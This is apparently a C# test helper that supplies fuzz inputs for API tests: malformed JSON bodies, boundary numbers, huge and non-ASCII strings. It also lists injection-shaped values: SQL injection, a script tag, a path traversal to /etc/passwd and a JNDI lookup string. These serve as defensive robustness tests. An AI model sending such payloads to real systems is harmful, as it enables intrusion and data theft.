using System.Text;
using System.Text.Json.Nodes;

namespace GridActors.Tests.OpenApi;

/// <summary>
/// The malformed, boundary, huge, non-ASCII and injection-shaped values a fuzzed request carries: what a broken client,
/// a copy-paste from a spreadsheet or an attacker would send.
/// </summary>
public static class FuzzInputs
{
    public static readonly string Huge = new('x', 100_000);

    /// <summary>Values for a path, query or header parameter (URL-escaped before they go into a URL).</summary>
    public static readonly string[] Texts =
    [
        "", " ", "abc", "-1", "0", "2147483648", "99999999999999999999", "1e309", "NaN", "2026-02-30", "0001-01-01",
        "9999-12-31", "2026-13", Huge, "中文网格", "😀👨‍👩‍👧", "\u202Eمرحبا שלום", "\0", "' OR 1=1 --", "<script>alert(1)</script>",
        "../../etc/passwd", "%00", "${jndi:ldap://example.org/a}", "true", "null", "[]", "{}",
    ];

    /// <summary>Already escaped: bytes no client library would produce (a lone surrogate in UTF-8, a broken escape).</summary>
    public static readonly string[] RawEscaped = ["%ED%A0%80", "%", "%zz", "%C0%AF"];

    /// <summary>Values put in place of one property of a valid body: wrong types, overflow, broken text, injections.</summary>
    public static readonly string[] PropertyValues =
    [
        "12345678901234567890", "1e309", "-1", "true", "[]", "[[[]]]", "{}", "null", "\"\"", "\"\\ud800\"", "\"\\u0000中文😀\\u202Eשלום\"",
        "\"' OR 1=1 --<script>alert(1)</script>../../etc/passwd%00${jndi:ldap://example.org/a}\"", $"\"{Huge}\"",
    ];

    private static readonly string Nested = new string('[', 1000) + new string(']', 1000);

    /// <summary>Whole bodies that are not the object an operation reads, built around its example where one helps.</summary>
    public static IEnumerable<(string Name, string Body, string ContentType)> MalformedJsonBodies(string example)
    {
        yield return ("empty", "", "application/json");
        yield return ("not JSON", "name=董屋网格&x=1", "application/json");
        yield return ("truncated", example[..(example.Length / 2)], "application/json");
        yield return ("unclosed", example.TrimEnd('}'), "application/json");
        yield return ("trailing garbage", example + "}{", "application/json");
        yield return ("array for object", "[" + example + "]", "application/json");
        yield return ("number", "1", "application/json");
        yield return ("string", "\"s\"", "application/json");
        yield return ("null", "null", "application/json");
        yield return ("nested 1,000 levels", Nested, "application/json");
        yield return ("nested 1,000 levels in a field", "{\"x\":" + Nested + "}", "application/json");
        yield return ("huge array", "[" + string.Join(',', Enumerable.Repeat("{}", 100_000)) + "]", "application/json");
        yield return ("unknown field", example.Insert(1, "\"nmae\":\"x\","), "application/json");
        yield return ("invalid UTF-8", "{\"name\":\"\xC3\x28\"}", "application/json");
        yield return ("not JSON media type", example, "text/plain");
    }

    /// <summary>Bodies for operations that read CSV, spreadsheets or forms.</summary>
    public static IEnumerable<(string Name, string Body)> MalformedRawBodies() =>
    [
        ("empty", ""), ("garbage", "\0\u0001\u0002' OR 1=1 --<script>\r\n,,,\"\"\"\n"), ("huge", Huge), ("not a form", "{\"a\":1}"),
        ("broken form", "a=%zz&=&&b"), ("non-ASCII", "名称,编码\n中文😀\u202E,../../etc/passwd\n"),
    ];

    /// <summary>Every property of <paramref name="example"/>, at any depth (the first item of arrays), as a path.</summary>
    public static IEnumerable<object[]> Properties(JsonNode? node, object[] at)
    {
        if (at.Length > 6)
        {
            yield break;
        }
        switch (node)
        {
            case JsonObject obj:
                foreach (var (name, value) in obj)
                {
                    object[] path = [.. at, name];
                    yield return path;
                    foreach (var inner in Properties(value, path))
                    {
                        yield return inner;
                    }
                }
                break;
            case JsonArray { Count: > 0 } array:
                foreach (var inner in Properties(array[0], [.. at, 0]))
                {
                    yield return inner;
                }
                break;
        }
    }

    /// <summary>The example with the value at <paramref name="path"/> replaced by the raw JSON <paramref name="value"/>.</summary>
    public static string Replace(string example, object[] path, string value)
    {
        const string marker = "\"__fuzz_marker__\"";
        var root = JsonNode.Parse(example)!;
        var parent = root;
        foreach (var step in path[..^1])
        {
            parent = step is int i ? parent[i]! : parent[(string)step]!;
        }
        if (path[^1] is int index)
        {
            parent.AsArray()[index] = "__fuzz_marker__";
        }
        else
        {
            parent.AsObject()[(string)path[^1]] = "__fuzz_marker__";
        }
        return root.ToJsonString().Replace(marker, value, StringComparison.Ordinal);
    }

    /// <summary>The bytes a body is sent as: UTF-8, except the deliberately invalid sequence, which goes out as is.</summary>
    public static byte[] Bytes(string body) => body.Contains("\xC3\x28", StringComparison.Ordinal)
        ? Encoding.Latin1.GetBytes(body)
        : Encoding.UTF8.GetBytes(body);
}
